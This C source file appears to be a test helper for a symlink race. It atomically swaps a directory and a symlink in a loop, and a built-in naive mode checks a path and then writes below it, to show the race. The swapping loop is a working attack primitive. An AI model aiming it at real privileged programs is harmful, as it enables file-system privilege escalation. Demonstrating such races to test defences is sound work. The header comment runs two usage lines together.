/*
 * The attacker of a symlink race, and a victim to show that the attack works.
 *
 *   flipper DIR LINK        exchanges the two names, atomically and over and over, until SIGTERM; then puts
 * them back and prints how often flipper --naive DIR N   writes N files below DIR as a careless program
 * would: looks whether it is a directory, then opens a path below it
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int flip(const char *dir, const char *link)
{
	unsigned long n = 0;
	signal(SIGTERM, on_term);
	while (!stop || n % 2) {
		if (renameat2(AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) != 0) {
			perror("flipper: renameat2");
			return 1;
		}
		n++;
	}
	printf("%lu\n", n);
	return 0;
}

static int write_naively(const char *dir, unsigned long n)
{
	char path[4096];
	struct stat st;
	for (unsigned long i = 0; i < n; i++) {
		if (lstat(dir, &st) != 0 || !S_ISDIR(st.st_mode))
			continue;
		snprintf(path, sizeof path, "%s/naive%lu", dir, i);
		int fd = open(path, O_WRONLY | O_CREAT | O_NOFOLLOW, 0600);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "--naive") == 0)
		return write_naively(argv[2], strtoul(argv[3], NULL, 10));
	if (argc != 3) {
		fprintf(stderr, "usage: flipper DIR LINK | flipper --naive DIR N\n");
		return 1;
	}
	return flip(argv[1], argv[2]);
}
